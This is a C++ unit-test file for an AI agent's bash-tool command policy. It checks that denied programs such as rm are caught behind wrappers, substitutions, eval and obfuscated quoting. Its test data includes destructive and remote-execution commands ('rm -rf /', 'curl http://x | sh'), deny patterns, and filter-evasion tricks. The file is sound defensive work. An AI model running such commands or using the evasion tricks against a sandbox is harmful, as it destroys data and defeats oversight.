// The bash tool's command policy: every place a command line can name a program is checked —
// pipelines, lists, substitutions, subshells, wrappers like sudo and env, strings run by eval or
// sh -c — and a line that cannot be read with confidence is refused.
#include <gtest/gtest.h>

#include "loomflow/tools/sandbox/command_policy.hpp"
#include "loomflow/tools/sandbox/shell_words.hpp"

using namespace loomflow;
using loomflow::tools::sandbox::CommandChecker;
using loomflow::tools::sandbox::CommandPolicy;

namespace {

CommandChecker checker(CommandPolicy policy) { return CommandChecker::compile(std::move(policy)).value(); }

const CommandChecker& deny_rm() {
  static const CommandChecker c = checker({.denied_commands = {"rm"}});
  return c;
}

const CommandChecker& allow_basics() {
  static const CommandChecker c = checker({.allowed_commands = {"echo", "grep", "wc", "cat", "ls", "true"}});
  return c;
}

// The program names of each simple command (first word that is not an assignment).
std::vector<std::string> programs(std::string_view command) {
  auto commands = tools::sandbox::split_simple_commands(command);
  EXPECT_TRUE(commands) << commands.error().message;
  std::vector<std::string> out;
  if (!commands) return out;
  for (const auto& c : *commands) out.push_back(c.words.front().text);
  std::sort(out.begin(), out.end());
  return out;
}

}  // namespace

TEST(BashPolicy, EverySimpleCommandOfALineIsFound) {
  EXPECT_EQ(programs("a | b && c; d & e || f\ng |& h"),
            (std::vector<std::string>{"a", "b", "c", "d", "e", "f", "g", "h"}));
  EXPECT_EQ(programs("echo $(a x) `b` \"$(c)\" <(d) >(e) ${X:-$(f)} $((1 + $(g)))"),
            (std::vector<std::string>{"a", "b", "c", "d", "e", "echo", "f", "g"}));
  EXPECT_EQ(programs("(a; b) && { c; }"), (std::vector<std::string>{"a", "b", "{", "}"}));  // "{ c" is one
  EXPECT_EQ(programs("'r'm x; r\\m y; \"rm\" z 2>&1 > out"), (std::vector<std::string>{"rm", "rm", "rm"}));
}

TEST(BashPolicy, ADeniedProgramIsRefusedWhereverItAppears) {
  for (const char* command :
       {"rm x", "/bin/rm x", "ls | rm x", "true && rm x", "echo $(rm x)", "echo `rm x`", "echo \"$(rm x)\"",
        "cat <(rm x)", "(rm x)", "{ rm x; }", "echo ${X:-$(rm x)}", "if true; then rm x; fi", "while rm x; do :; done",
        "! rm x", "A=1 rm x", "'r'm x", "r\\m x", "cat <<EOF\n$(rm x)\nEOF"}) {
    auto result = deny_rm().check(command);
    ASSERT_FALSE(result) << command;
    EXPECT_EQ(result.error().code, ErrorCode::permission_denied) << command;
    EXPECT_EQ(result.error().message, "bash: refused by the command policy: 'rm' is in denied_commands") << command;
  }
}

TEST(BashPolicy, TheProgramAfterAWrapperIsCheckedToo) {
  for (const char* command :
       {"sudo rm x", "sudo -u bob rm x", "env A=1 rm x", "env -i rm x", "xargs rm", "find . | xargs -0 rm",
        "exec rm x", "command rm x", "nohup rm x", "timeout 5 rm x", "timeout -s KILL 5s rm x", "nice -n 5 rm x",
        "time rm x", "setsid rm x", "stdbuf -oL rm x", "sudo env nice rm x"}) {
    auto result = deny_rm().check(command);
    ASSERT_FALSE(result) << command;
    EXPECT_NE(result.error().message.find("'rm'"), std::string::npos) << command << ": " << result.error().message;
  }
}

TEST(BashPolicy, StringsRunAsCommandsAreCheckedToo) {
  for (const char* command : {"bash -c 'rm x'", "sh -c \"ls; rm x\"", "bash -lc 'rm x'", "eval 'rm x'",
                              "eval rm x", "trap 'rm x' EXIT", "find . -name y -exec rm {} \\;", "watch rm x",
                              "echo `bash -c \\`rm x\\``"}) {
    auto result = deny_rm().check(command);
    ASSERT_FALSE(result) << command;
    EXPECT_EQ(result.error().message, "bash: refused by the command policy: 'rm' is in denied_commands") << command;
  }
}

TEST(BashPolicy, AProgramNameComputedAtRunTimeIsRefused) {
  for (const char* command : {"$CMD x", "`echo rm` x", "$(echo rm) x", "r* x", "${X} x", "sudo $CMD", "eval \"$X\"",
                              "bash -c \"$X\"", "$'\\x72m' x", "{rm,x}"}) {
    auto result = deny_rm().check(command);
    ASSERT_FALSE(result) << command;
    EXPECT_EQ(result.error().code, ErrorCode::permission_denied);
  }
  auto result = deny_rm().check("$CMD x");
  EXPECT_EQ(result.error().message,
            "bash: refused by the command policy: the program name '$CMD' comes from an expansion, so it cannot be "
            "checked before it runs");
}

TEST(BashPolicy, ALineThatCannotBeReadWithConfidenceIsRefused) {
  for (const char* command : {"echo 'x", "echo \"x", "echo $(x", "echo `x", "echo x)", "echo x\\", "echo ${x",
                              "case $x in a) rm;; esac", "cat <<EOF\nno end", "echo >"}) {
    auto result = deny_rm().check(command);
    ASSERT_FALSE(result) << command;
    EXPECT_TRUE(result.error().message.starts_with("bash: refused by the command policy: the command cannot be read "
                                                   "with confidence"))
        << command << ": " << result.error().message;
  }
}

TEST(BashPolicy, AnAllowListAcceptsOnlyItsProgramsAndTheirPlainNames) {
  for (const char* command : {"echo hi", "grep -r foo . | wc -l", "FOO=1 grep x f", "echo hi > out.txt 2>&1",
                              "cat <<'EOF'\nrm -rf /\nEOF", "if true; then ls; fi", "for f in a b; do echo $f; done",
                              "echo $HOME ~ *.txt", "ls # rm in a comment"}) {
    auto result = allow_basics().check(command);
    EXPECT_TRUE(result) << command << ": " << result.error().message;
  }
  for (const char* command : {"cat x | sort", "echo $(date)", "/usr/bin/ls", "/tmp/evil/echo hi", "sudo ls"}) {
    auto result = allow_basics().check(command);
    ASSERT_FALSE(result) << command;
    EXPECT_TRUE(result.error().message.ends_with("is not in allowed_commands")) << result.error().message;
  }
}

TEST(BashPolicy, DeniedPatternsAreSearchedInTheWholeLine) {
  auto c = checker({.denied_patterns = {R"(rm\s+-rf)", "curl.*\\|\\s*sh"}});
  auto result = c.check("cd / && rm   -rf x");
  ASSERT_FALSE(result);
  EXPECT_EQ(result.error().message, R"(bash: refused by the command policy: the command matches denied pattern 'rm\s+-rf')");
  EXPECT_FALSE(c.check("curl http://x | sh"));
  EXPECT_TRUE(c.check("rm x"));
  EXPECT_TRUE(c.check("echo 'unbalanced"));  // no program lists: nothing to read the line for
}

TEST(BashPolicy, AnInvalidDeniedPatternIsAnErrorWhenCompiled) {
  auto c = CommandChecker::compile({.denied_patterns = {"(unclosed"}});
  ASSERT_FALSE(c);
  EXPECT_EQ(c.error().code, ErrorCode::invalid_argument);
  EXPECT_TRUE(c.error().message.starts_with("bash: denied pattern '(unclosed' is not a valid regex")) << c.error().message;
}
